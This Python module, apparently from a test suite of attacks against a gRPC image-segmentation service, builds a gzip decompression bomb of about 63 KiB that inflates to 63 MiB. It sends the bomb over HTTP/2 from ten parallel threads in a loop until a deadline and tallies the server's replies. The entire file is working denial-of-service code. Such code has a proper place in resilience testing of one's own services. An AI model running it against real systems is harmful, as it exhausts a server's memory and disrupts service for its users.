"""Small compressed messages that are large."""

from __future__ import annotations

import gzip
import time
from functools import cache

from attacks.http2 import Http2, message
from attacks.messages import MEGABYTE, SEGMENT_IMAGE, image_request
from attacks.target import Seen, Target, short
from attacks.threads import in_threads

CALLS = 10
INFLATED = 63 * MEGABYTE
PATIENCE = 5.0


@cache
def bomb() -> bytes:
    """63 KiB that inflate to 63 MiB."""
    return message(gzip.compress(image_request(bytes(INFLATED))), compressed=True)


def gzip_bombs(target: Target, until: float, seen: Seen) -> None:
    """Ten calls at a time, again and again."""
    in_threads(CALLS, lambda: _calls(target, until, seen), until, seen)


def _calls(target: Target, until: float, seen: Seen) -> None:
    with Http2(target.grpc, until) as connection:
        while time.monotonic() < until:
            stream = connection.open(SEGMENT_IMAGE, ("grpc-encoding", "gzip"))
            connection.send(stream, bomb(), last=True)
            patience = time.monotonic() + PATIENCE
            while stream not in connection.ended and time.monotonic() < min(until, patience):
                connection.receive(0.2)
            seen[short(connection.ended.pop(stream, f"no answer in {PATIENCE:g} s"))] += 1
